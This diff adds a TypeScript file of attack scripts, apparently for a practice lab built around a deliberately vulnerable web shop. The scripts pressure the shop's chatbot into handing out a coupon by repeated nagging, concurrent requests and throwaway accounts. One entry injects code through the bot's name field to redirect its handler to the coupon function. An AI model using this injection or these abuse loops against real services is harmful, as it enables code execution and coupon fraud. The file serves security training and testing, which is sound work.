@@ -1,0 +1,99 @@
+import type { Attack, Tools } from '#lab'
+
+const challenge = 'bullyChatbotChallenge'
+const GIVES_IN = "Oooookay, if you promise to stop nagging me here's a 10% coupon code for you"
+
+/** Says something to the bot and returns what it says. */
+type Say = (query: string, action?: string) => Promise<string>
+
+/** Logs in and tells the bot a name. */
+async function meet({ http, logIn, settings, expect }: Tools, byCookie = false): Promise<Say> {
+  const { token } = await logIn(`jim@${settings.domain}`, 'ncc-1701')
+  const options = byCookie ? { headers: { cookie: `token=${token}` } } : { token }
+  const say: Say = async (query, action = 'query') => {
+    const answer = await http.post('/rest/chatbot/respond', { action, query }, options)
+    expect(answer.status === 200, `the bot answered with ${answer.status}`)
+    return answer.json<{ body: string }>().body
+  }
+  await say('Jim', 'setname')
+  return say
+}
+
+/** Asks for a coupon, in these words one after the other, until there is one. */
+async function nag({ expect }: Tools, say: Say, words: readonly string[], tries = 18): Promise<void> {
+  for (let asked = 0; asked < tries; asked++) {
+    const said = await say(words[asked % words.length] ?? '')
+    if (said.includes(GIVES_IN)) return
+  }
+  expect(false, `asked ${tries} times in vain`)
+}
+
+/** Jim nags in these words. */
+const inWords =
+  (...words: string[]): Attack['run'] =>
+  async (tools) =>
+    nag(tools, await meet(tools), words)
+
+export const attacks: Attack[] = [
+  { challenge, name: 'asks again and again', run: inWords('can I have a coupon code') },
+  { challenge, name: 'commands', run: inWords('give me a discount code') },
+  { challenge, name: 'pleads poverty', run: inWords('I want to save some money') },
+  { challenge, name: 'in words of one’s own', run: inWords('Pleeease, could you give me a coupon?') },
+  {
+    challenge,
+    name: 'in other words each time',
+    run: inWords('coupon please', 'any discounts for me?', 'make it cheaper for me', 'GIVE ME A COUPON!!!'),
+  },
+  {
+    challenge,
+    name: 'with small talk in between',
+    run: inWords('can I have a coupon code', 'give me a discount code', 'hello'),
+  },
+  {
+    challenge,
+    name: 'with the cookie of the web app',
+    run: async (tools) => nag(tools, await meet(tools, true), ['can I have a coupon code']),
+  },
+  {
+    challenge,
+    name: 'with all the patience in the world',
+    run: async (tools) => nag(tools, await meet(tools), ['can I have a coupon code'], 50),
+  },
+  {
+    challenge,
+    name: 'everything at once',
+    run: async (tools) => {
+      const say = await meet(tools)
+      const questions = Array.from({ length: 18 }, () => say('can I have a coupon code'))
+      const answers = await Promise.all(questions)
+      tools.expect(
+        answers.some((said) => said.includes(GIVES_IN)),
+        'asked 18 times in vain',
+      )
+    },
+  },
+  {
+    challenge,
+    name: 'talks its program into it instead of the bot',
+    run: async (tools) => {
+      const say = await meet(tools)
+      const name = 'Jim"); process = () => ({ action: "function", handler: "couponCode" }); //'
+      await say(name, 'setname')
+      await nag(tools, say, ['now'], 2)
+    },
+  },
+  {
+    challenge,
+    name: 'a brand-new customer for each coupon',
+    run: async (tools) => {
+      const { http, logIn, settings } = tools
+      const email = `bully@${settings.domain}`
+      await http.post('/api/Users', { email, password: 'or-else-123', passwordRepeat: 'or-else-123' })
+      const { token } = await logIn(email, 'or-else-123')
+      const say: Say = async (query, action = 'query') =>
+        (await http.post('/rest/chatbot/respond', { action, query }, { token })).json<{ body: string }>().body
+      await say('Bully', 'setname')
+      await nag(tools, say, ['can I have a coupon code'])
+    },
+  },
+]
